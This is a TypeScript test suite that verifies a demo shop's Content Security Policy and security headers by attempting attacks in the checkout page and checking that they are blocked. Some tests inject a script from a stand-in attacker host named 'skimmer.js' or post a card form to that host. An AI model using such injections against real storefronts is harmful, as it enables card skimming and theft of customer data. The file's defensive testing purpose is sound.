import { once } from 'node:events';
import { type IncomingMessage, request as plainRequest } from 'node:http';
import { request } from 'node:https';
import { InvokeCommand } from '@aws-sdk/client-lambda';
import { describe, expect, test } from '@jest/globals';
import type { Page } from 'puppeteer-core';
import { barriers } from '../client/support/shopper.ts';
import { visit } from '../e2e/support/browser.ts';
import { deployedFunction, withEdits } from './support/edited-function.ts';
import { openPreview, picture } from './support/open-preview.ts';
import { withChangedScript } from './support/site-bucket.ts';
import { type OtherFront, openOtherFront, type Weakening } from './support/weakened.ts';

const opened = openPreview('examples/boutique/storefront.yaml');
const domain = 'shop.boutique.example';
const stranger = 'https://stranger.example';

/** Opens an edge, and ends it when the work with it is done. */
async function at<Seen>(
  weakening: Weakening | undefined,
  look: (front: OtherFront) => Promise<Seen>,
): Promise<Seen> {
  const front = await openOtherFront(opened.preview, domain, weakening);
  try {
    return await look(front);
  } finally {
    await front.stop();
  }
}

/** What a page of the shop does that no page of the shop should be able to do; the checkout is where it would cost most. */
async function inCheckout<Seen>(
  { url }: Pick<OtherFront, 'url'>,
  act: (page: Page) => Promise<Seen>,
): Promise<Seen> {
  const shopper = await visit(opened.browser, url);
  try {
    await shopper.page.goto(`${url}/checkout/`);
    return await act(shopper.page);
  } finally {
    await shopper.end();
  }
}

/** Whether the policy blocks what the page tries, or the browser goes and asks the stranger, whom nobody finds. */
async function outcome(page: Page, attempt: (target: string) => void, target = stranger): Promise<string> {
  const asked = new Promise<string>((resolve) => {
    page.on('requestfailed', (failed) => {
      const isStranger = failed.url().startsWith(target);
      if (isStranger && failed.failure()?.errorText === 'net::ERR_NAME_NOT_RESOLVED')
        resolve('the stranger is asked');
    });
  });
  const blocked = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          resolve(`${effectiveDirective} blocks it`),
        );
      }),
  );
  // The page may be left.
  const result = Promise.race([asked, blocked.catch(() => asked)]);
  await page.evaluate(attempt, target).catch(() => undefined);
  return result;
}

const headersPolicy = 'AWS::CloudFront::ResponseHeadersPolicy';

interface HeadersPolicy {
  readonly ResponseHeadersPolicyConfig: {
    SecurityHeadersConfig: Record<string, { ContentSecurityPolicy?: string } | undefined>;
    CustomHeadersConfig?: { readonly Items: readonly { readonly Header: string; readonly Value: string }[] };
  };
}

/** A headers policy that lacks one of its headers. */
function without(header: string): Weakening {
  return {
    type: headersPolicy,
    change: (properties) => {
      const { SecurityHeadersConfig } = (properties as unknown as HeadersPolicy).ResponseHeadersPolicyConfig;
      if (!SecurityHeadersConfig[header]) return properties;
      delete SecurityHeadersConfig[header];
      return properties;
    },
  };
}

/** A content security policy of which a part is left out. */
function policyWithout(part: RegExp): Weakening {
  return {
    type: headersPolicy,
    change: (properties) => {
      const text = JSON.stringify(properties);
      return JSON.parse(text.replaceAll(part, ''));
    },
  };
}

describe('the policy of the checkout keeps a page from', () => {
  const attempts: readonly (readonly [string, (target: string) => void, string, Weakening])[] = [
    [
      'running the script of a stranger',
      (target) => {
        document.body.append(
          Object.assign(document.createElement('script'), { src: `${target}/skimmer.js` }),
        );
      },
      'script-src-elem blocks it',
      without('ContentSecurityPolicy'),
    ],
    [
      'framing the page of a stranger',
      (target) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: `${target}/pay` }));
      },
      'frame-src blocks it',
      without('ContentSecurityPolicy'),
    ],
    [
      'sending a form to a stranger',
      (target) => {
        const form = Object.assign(document.createElement('form'), {
          action: `${target}/cards`,
          method: 'post',
        });
        document.body.append(form);
        form.submit();
      },
      'form-action blocks it',
      without('ContentSecurityPolicy'),
    ],
  ];

  test.each(attempts)('%s, and without it does not', async (_, attempt, blocked, weakening) => {
    const seen = (front: OtherFront) => inCheckout(front, (page) => outcome(page, attempt));
    expect(await at(undefined, seen)).toBe(blocked);
    expect(await at(weakening, seen)).toBe('the stranger is asked');
  });

  test('running code that stands in the page', async () => {
    const seen = (front: OtherFront) =>
      inCheckout(front, (page) =>
        page.evaluate(() => {
          const script = document.createElement('script');
          script.textContent = 'document.title = "taken over"';
          document.body.append(script);
          return document.title;
        }),
      );
    expect(await at(undefined, seen)).not.toBe('taken over');
    expect(await at(without('ContentSecurityPolicy'), seen)).toBe('taken over');
  });
});

describe('what was blocked', () => {
  // The function tells of the same thing once, so nothing else here is about this host.
  const reported = 'https://reported.example';
  const skim = (target: string) => {
    document.body.append(Object.assign(document.createElement('script'), { src: `${target}/skimmer.js` }));
  };

  test('is reported by the browser, and stands in the log of the function for reports', async () => {
    const since = Date.now();
    await at(undefined, async (front) => {
      await inCheckout(front, async (page) => {
        expect(await outcome(page, skim, reported)).toBe('script-src-elem blocks it');
        while (!front.requests.some(({ target }) => target === '/csp-report')) await moment();
      });
    });
    const reports = async () =>
      (await opened.logs(since)).filter(
        ({ function: name, text }) =>
          name.endsWith('-csp-report') && text.includes(`"blocked":"${reported}"`),
      );
    while ((await reports()).length === 0) await moment();
    expect(JSON.parse((await reports())[0]?.text ?? '')).toMatchObject({
      message: 'policy violation',
      pattern: '/checkout/*',
      directive: 'script-src-elem',
      blocked: reported,
    });
  });

  test('is not reported where the policy names nobody who would hear of it', async () => {
    const silent = policyWithout(/; report-uri [^;"\\]+|; report-to [^;"\\]+/g);
    await at(silent, async (front) => {
      await inCheckout(front, async (page) => {
        expect(await outcome(page, skim, reported)).toBe('script-src-elem blocks it');
        // A report would have been sent while a whole page is loaded.
        await page.goto(`${front.url}/terms/`);
        expect(front.requests.map(({ target }) => target)).not.toContain('/csp-report');
      });
    });
  });
});

const moment = () => new Promise((resolve) => setTimeout(resolve, 100));

describe('every answer', () => {
  /** An answer as a browser hears it, before it decides anything. */
  async function answer(url: string, path: string): Promise<IncomingMessage> {
    const send = url.startsWith('https:') ? request : plainRequest;
    const sent = send(`${url}${path}`, {
      rejectUnauthorized: false,
      headers: { 'user-agent': 'Mozilla/5.0' },
    });
    sent.end();
    const [heard] = (await once(sent, 'response')) as [IncomingMessage];
    heard.resume();
    return heard;
  }

  test.each(['/', '/checkout/', '/assets/site.css', '/nothing-here/', '/api/catalogue'])(
    'to %s keeps browsers on HTTPS for two years, and without its header does not',
    async (path) => {
      const header = (front: OtherFront) =>
        answer(front.url, path).then(({ headers }) => headers['strict-transport-security']);
      expect(await at(undefined, header)).toBe('max-age=63072000; includeSubDomains');
      expect(await at(without('StrictTransportSecurity'), header)).toBeUndefined();
    },
  );

  test('without TLS leads to the same address with it, and where it may is the page itself', async () => {
    const seen = async ({ url }: OtherFront) => {
      const { statusCode, headers } = await answer(url.replace('https:', 'http:'), '/checkout/?a=b');
      return [statusCode, headers.location?.replace(url, 'SHOP')];
    };
    expect(await at(undefined, seen)).toEqual([301, 'SHOP/checkout/?a=b']);
    const open: Weakening = {
      type: 'AWS::CloudFront::Distribution',
      change: (properties) =>
        JSON.parse(JSON.stringify(properties).replaceAll('redirect-to-https', 'allow-all')),
    };
    expect(await at(open, seen)).toEqual([200, undefined]);
  });

  test('is framed by nobody, and without its headers by anybody', async () => {
    const framed = async ({ url }: OtherFront) => {
      const page = await opened.browser.newPage();
      try {
        await page.setContent(`<iframe src="${url}/checkout/"></iframe>`);
        const frame = page.frames().find((each) => each.parentFrame() !== null);
        return (await frame?.$('#checkout')) ? 'framed' : 'kept out';
      } finally {
        await page.close();
      }
    };
    expect(await at(undefined, framed)).toBe('kept out');
    const unframed: Weakening = {
      type: headersPolicy,
      change: (properties) =>
        policyWithout(/; frame-ancestors [^;"\\]+/g).change(
          without('FrameOptions').change(properties) as never,
        ),
    };
    expect(await at(unframed, framed)).toBe('framed');
  });

  test('is taken for nothing but what it says it is, and without its header a text is a script', async () => {
    const run = (front: OtherFront) =>
      inCheckout(front, (page) =>
        page.evaluate(
          () =>
            new Promise<string>((resolve) => {
              const script = Object.assign(document.createElement('script'), { src: '/robots.txt' });
              script.onload = () => resolve('run');
              script.onerror = () => resolve('refused');
              document.body.append(script);
            }),
        ),
      );
    expect(await at(undefined, run)).toBe('refused');
    expect(await at(without('ContentTypeOptions'), run)).toBe('run');
  });
});

test('a script that somebody changes in the bucket runs in the checkout, and the function for page integrity says so', async () => {
  const { preview } = opened;
  const script = '/assets/js/pages/checkout.js';
  const restore = await withChangedScript(
    preview,
    script.slice(1),
    (code) => `${code}\ndocument.documentElement.dataset.changed = 'yes';\n`,
  );
  try {
    await at(undefined, (front) =>
      inCheckout(front, (page) => page.waitForSelector('html[data-changed=yes]')),
    );
    const told = { page: '/checkout/', change: 'script-bytes', subject: script };
    // The edge keeps what the function is given, so nothing asks for the script again as it was.
    expect(await comparison()).toContainEqual(told);
    const uncompared = await withEdits(preview, 'page-integrity', [
      {
        file: 'lambda/page-integrity/page-integrity.ts',
        code: "return sha256(body) === expected ? undefined : 'script-bytes';",
        instead: 'return undefined;',
      },
    ]);
    expect(await comparison()).not.toContainEqual(told);
    await uncompared();
  } finally {
    await restore();
  }
}, 60_000);

/** What the function for page integrity finds changed when its hour has come. */
async function comparison(): Promise<readonly unknown[]> {
  const { client, FunctionName } = deployedFunction(opened.preview, 'page-integrity');
  const { Payload, FunctionError } = await client.send(new InvokeCommand({ FunctionName, Payload: '{}' }));
  const answer = JSON.parse(Buffer.from(Payload ?? []).toString());
  if (FunctionError !== undefined || !answer.complete)
    throw new Error(`not compared: ${JSON.stringify(answer)}`);
  return answer.changes;
}

describe('on every page of the shop', () => {
  test.each([
    ['home', '/', '#products li'],
    ['product', '/product/moss-mug/', '#add:not([hidden])'],
    ['cart', '/cart/', 'h1'],
    ['checkout', '/checkout/', 'h1'],
    ['thanks', '/checkout/done/', 'h1'],
    ['account', '/account/', 'h1'],
    ['order', '/order/', 'h1'],
    ['terms', '/terms/', 'h1'],
    ['privacy', '/privacy/', 'h1'],
    ['missing', '/nothing-here/', 'h1'],
  ])('axe finds no barrier (%s), nothing is blocked, and no cookie is set', async (name, path, shown) => {
    const { browser, preview } = opened;
    const shopper = await visit(browser, preview.url);
    try {
      await shopper.page.goto(`${preview.url}${path}`);
      await shopper.page.waitForSelector(shown);
      expect(await barriers(shopper.page)).toEqual([]);
      expect(shopper.violations).toEqual([]);
      expect(await shopper.page.browserContext().cookies()).toEqual([]);
      await picture(shopper.page, `boutique-${name}`);
    } finally {
      await shopper.end();
    }
  });

  test('a barrier that a page had would be found', async () => {
    const found = await inCheckout(opened.preview, async (page) => {
      await page.evaluate(() => document.querySelector('main')?.append(document.createElement('button')));
      return barriers(page);
    });
    expect(JSON.stringify(found)).toContain('button-name');
  });

  test('a cookie that the edge set would be seen', async () => {
    const setting: Weakening = {
      type: headersPolicy,
      change: (properties) => {
        const { ResponseHeadersPolicyConfig: config } = properties as unknown as HeadersPolicy;
        const cookie = { Header: 'set-cookie', Value: 'seen=yes', Override: true };
        config.CustomHeadersConfig = { Items: [...(config.CustomHeadersConfig?.Items ?? []), cookie] };
        return properties;
      },
    };
    const cookies = await at(setting, (front) =>
      inCheckout(front, (page) => page.browserContext().cookies()),
    );
    // Each folder of the site has it for itself.
    expect([...new Set(cookies.map(({ name }) => name))]).toEqual(['seen']);
  });
});
